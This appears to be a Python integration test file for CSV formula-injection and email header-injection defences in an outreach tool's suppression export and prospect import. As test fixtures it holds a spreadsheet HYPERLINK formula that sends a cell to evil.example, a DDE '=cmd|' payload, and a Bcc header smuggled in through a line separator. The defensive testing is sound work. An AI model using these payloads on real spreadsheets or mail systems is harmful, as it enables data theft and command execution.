"""CSV files the project writes cannot run as formulas, and read back as written
(specs/csv_cells.py); prospect fields no header or body line can hold are refused at
import (docs/decisions/0047). Real processes, real PostgreSQL."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import asyncpg
import pytest

from config.settings import Settings
from specs import SpecError
from specs.loading import load_campaign_file
from store import suppressions
from store.importer import create_campaign
from store.suppressions import Scope
from tests.factories import add_campaign, add_mailbox
from tests.integration.test_cli import outreach
from tests.integration.test_input_hygiene import BOUNDS, HEADER, row, snapshot, write_campaign

# What a recipient server answered (`550 =HYPERLINK(...) 5.1.1`): the text after the code
# becomes the do-not-contact entry's reason.
LEAK = '=HYPERLINK("https://evil.example/?leak="&A3,"Click to re-subscribe") 5.1.1'
FORMULA_ADDRESS = "=cmd|'/ccalc'!a0@x.example"  # a valid address (RFC 5322 atext)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def listed_entries(db: asyncpg.Pool, workspace: str) -> dict[str, str | None]:
    rows = await db.fetch("SELECT entry, reason FROM suppressions WHERE workspace_id = $1", workspace)
    return {r["entry"]: r["reason"] for r in rows}


async def test_export_quotes_formulas_and_import_reads_back_the_original_values(
    db: asyncpg.Pool, settings: Settings, tmp_path: Path
) -> None:
    await add_mailbox(db, "mb", 2525)
    campaign_id, prospects = await add_campaign(
        db, ["mb"], [FORMULA_ADDRESS, "-bob@x.example", "+ann@x.example"], [("Hi", "x", 0)], workspace="acme")
    async with db.acquire() as conn:
        for prospect, reply in zip(prospects, [LEAK, "-1+1 no such user", "@SUM(A1) gone"], strict=True):
            assert await suppressions.record_hard_bounce(conn, campaign_id, prospect, "5.1.1", reply)
    await suppressions.add(db, Scope.workspace("acme"), "joe@example.com", reason="+asked by phone")
    original = await listed_entries(db, "acme")
    assert original[FORMULA_ADDRESS.lower()] == LEAK  # stored as the server wrote it

    exported = await outreach(settings, "suppress", "export", "--workspace", "acme")
    assert exported.returncode == 0, exported.stderr
    header, *rows = list(csv.reader(io.StringIO(exported.stdout)))
    assert header == ["address", "reason", "source", "scope", "created_at"]
    cells = [cell for r in rows for cell in r]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], "a cell a spreadsheet would run"
    by_address = {r[0]: r for r in rows}
    assert by_address["'" + FORMULA_ADDRESS.lower()][1] == "'" + LEAK
    assert by_address["'-bob@x.example"][1] == "'-1+1 no such user"
    assert by_address["joe@example.com"][1] == "'+asked by phone"

    path = tmp_path / "acme.csv"
    path.write_text(exported.stdout, encoding="utf-8")
    imported = await outreach(settings, "suppress", "import", str(path), "--workspace", "beta")
    assert imported.returncode == 0, imported.stderr
    assert "imported 4 entries into the workspace:beta list: 4 new" in imported.stdout
    assert await listed_entries(db, "beta") == original


async def test_a_prospects_file_quoted_as_text_by_a_spreadsheet_reads_as_its_values(
    db: asyncpg.Pool, tmp_path: Path
) -> None:
    await add_mailbox(db, "mb", 2525)
    rows = [HEADER, row(email="'-bob@example.com", first_name="'=Bob", company="'+44 20 7946 0000"),
            row(email="ann@example.com", first_name="'Ann", company="''=1+1")]
    created = await create_campaign(db, load_campaign_file(write_campaign(tmp_path, rows), BOUNDS))
    found = await db.fetch("SELECT email, fields FROM prospects WHERE campaign_id = $1 ORDER BY id",
                           created.id)
    assert [(r["email"], r["fields"]["first_name"], r["fields"]["company"]) for r in found] == [
        ("-bob@example.com", "=Bob", "+44 20 7946 0000"),
        ("ann@example.com", "'Ann", "'=1+1"),  # only the one quote a writer adds comes off
    ]


@pytest.mark.parametrize(("value", "named"), [
    ("Acme\u2028Bcc: victim@example.com", "U+2028 (LINE SEPARATOR) at character 5"),
    ("Acme\u2029", "U+2029 (PARAGRAPH SEPARATOR) at character 5"),
    ("Acme\x85", "U+0085 (NEXT LINE) at character 5"),
    ("Acme\x1b[2J", "U+001B (a control character) at character 5"),
    ("Acme\x7f", "U+007F (a control character) at character 5"),
    ("Acme\x9b", "U+009B (a control character) at character 5"),
    ("Acme\x0b", "U+000B (a control character) at character 5"),
])
async def test_a_field_no_header_or_body_line_can_hold_is_refused_naming_row_and_column(
    value: str, named: str, db: asyncpg.Pool, tmp_path: Path
) -> None:
    await add_mailbox(db, "mb", 2525)
    await add_campaign(db, ["mb"], ["earlier@example.com"], [("Hi", "Body", 0)])  # so unchanged != empty
    rows = [HEADER, row(email="ok@example.com"), row(email="bob@example.com", company=value)]
    before = await snapshot(db)
    with pytest.raises(SpecError) as refused:
        await create_campaign(db, load_campaign_file(write_campaign(tmp_path, rows), BOUNDS))
    message = str(refused.value).replace(str(tmp_path) + "/", "")
    assert message == (f"campaign.yaml: prospects.csv line 3, column company: must not contain {named}:"
                       " no header or body line can hold it")
    assert await snapshot(db) == before  # nothing imported


async def test_a_tab_in_a_field_is_still_fine(db: asyncpg.Pool, tmp_path: Path) -> None:
    await add_mailbox(db, "mb", 2525)
    rows = [HEADER, row(company="Acme\tLtd")]
    created = await create_campaign(db, load_campaign_file(write_campaign(tmp_path, rows), BOUNDS))
    assert created.prospects == 1
